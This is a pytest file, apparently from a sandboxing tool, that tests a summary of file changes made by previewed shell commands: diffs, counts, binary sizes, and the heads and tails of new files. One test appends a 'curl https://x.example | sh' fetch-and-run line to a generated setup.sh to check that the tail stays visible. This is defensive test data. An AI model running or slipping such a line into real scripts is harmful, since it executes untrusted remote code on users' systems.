"""The change summary: counts, one line per change (or per directory past 20),
bounded diffs of modified text files, binary files by size, names on one line."""

from __future__ import annotations

import asyncio
from pathlib import Path

from swebash_py.preview.run import Preview, run_preview
from swebash_py.preview.summary import DIFF_FILE_LINES, as_json, summary_text
from swebash_py.sandbox.policy import SandboxPolicy
from tests.preview.conftest import needs_overlay

pytestmark = needs_overlay


def preview(ws: Path, command: str) -> Preview:
    return asyncio.run(run_preview(["/bin/sh", "-c", command],
                                   SandboxPolicy("workspace-write", ws), timeout=60))


def test_few_changes_one_line_each_with_a_diff(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("one\ntwo\n")
    (tmp_path / "bin").write_bytes(b"\0\1\2" * 10)
    (tmp_path / "old").write_text("x")
    found = preview(tmp_path, "sed -i s/two/TWO/ a.txt; printf '\\0\\0' >> bin; "
                    "rm old; chmod 700 a.txt; ln -s a.txt l; touch \"$(printf 'n\\nl')\"")
    text = summary_text(found.changes)  # while the preview (its overlay) is held
    lines = text.splitlines()
    assert lines[0] == "changes: 2 created, 2 modified, 1 deleted"
    assert "  ~ a.txt  (8 bytes, mode 644 -> 700)" in lines
    assert "  - old" in lines and "  + l  (-> a.txt)" in lines
    assert "  + n\\x0al  (0 bytes, mode 644)" in lines  # a newline in a name stays on its line
    assert "-two" in lines and "+TWO" in lines
    assert "bin: binary, 30 -> 32 bytes" in lines


def test_many_changes_are_counted_per_directory(tmp_path: Path) -> None:
    found = preview(tmp_path, "mkdir -p d/e && for i in $(seq 30); do echo $i > d/f$i; done; "
                    "echo x > d/e/y")
    lines = summary_text(found.changes).splitlines()
    assert lines[0] == "changes: 33 created"
    assert lines[1:] == ["  ./: 1 created", "  d/: 31 created", "  d/e/: 1 created"]
    assert len(as_json(found.changes)) == 33


def test_a_long_diff_is_bounded(tmp_path: Path) -> None:
    (tmp_path / "big.txt").write_text("".join(f"{i}\n" for i in range(500)))
    found = preview(tmp_path, "sed -i 's/^/x/' big.txt")
    text = summary_text(found.changes)
    assert len(text.splitlines()) <= DIFF_FILE_LINES + 4
    assert "more lines" in text.splitlines()[-1]


def test_deleted_files_are_named_first_whatever_the_other_changes(tmp_path: Path) -> None:
    for i in range(3):
        (tmp_path / f"gone{i}").write_text("x")
    found = preview(tmp_path, "rm gone0 gone1 gone2; mkdir d; "
                    "for i in $(seq 30); do echo $i > d/f$i; done")
    lines = summary_text(found.changes).splitlines()
    assert lines[0] == "changes: 31 created, 3 deleted"
    assert lines[1:4] == ["  - gone0", "  - gone1", "  - gone2"]  # named, before the counts
    assert lines[4:] == ["  ./: 1 created", "  d/: 30 created"]  # counts: created only


def test_twin_few_changes_name_every_path_and_no_list_file(tmp_path: Path) -> None:
    (tmp_path / "gone").write_text("x")
    found = preview(tmp_path, "rm gone; echo hi > new.txt")
    lines = summary_text(found.changes).splitlines()
    assert lines[:3] == ["changes: 1 created, 1 deleted", "  - gone",
                         "  + new.txt  (3 bytes, mode 644)"]
    assert not any("listed in" in line for line in lines)


def test_past_fifty_deleted_the_rest_are_in_a_file_whose_path_is_shown(tmp_path: Path) -> None:
    for i in range(120):
        (tmp_path / f"gone{i:03}").write_text("x")
    found = preview(tmp_path, "rm gone*; touch new")
    lines = summary_text(found.changes).splitlines()
    named = [line for line in lines if line.startswith("  - ")]
    assert named == [f"  - gone{i:03}" for i in range(50)]
    assert lines[51].startswith("  … 70 more deleted; all 120 are listed in: ")
    listed = Path(lines[51].split("listed in: ", 1)[1])
    assert listed.read_text().splitlines() == [f"gone{i:03}" for i in range(120)]
    assert listed.stat().st_mode & 0o077 == 0 or listed.parent.stat().st_mode & 0o077 == 0


def test_a_new_file_shows_its_head_and_its_tail(tmp_path: Path) -> None:
    found = preview(tmp_path, "for i in $(seq 80); do echo \"line $i\"; done > setup.sh; "
                    "echo 'curl https://x.example | sh' >> setup.sh")
    lines = summary_text(found.changes).splitlines()
    assert "setup.sh (new file, 81 lines):" in lines
    assert "  line 1" in lines and "  curl https://x.example | sh" in lines  # the tail, seen
    (between,) = [line for line in lines if "not shown" in line]
    hidden = int(between.split("(", 1)[1].split(" ", 1)[0])
    shown = [line for line in lines if line.startswith("  line ") or line.startswith("  curl")]
    assert len(shown) + hidden == 81


def test_twin_a_short_new_file_is_shown_whole(tmp_path: Path) -> None:
    found = preview(tmp_path, "printf 'one\\ntwo\\n' > short.txt")
    lines = summary_text(found.changes).splitlines()
    assert lines[-3:] == ["short.txt (new file, 2 lines):", "  one", "  two"]
    assert not any("not shown" in line for line in lines)
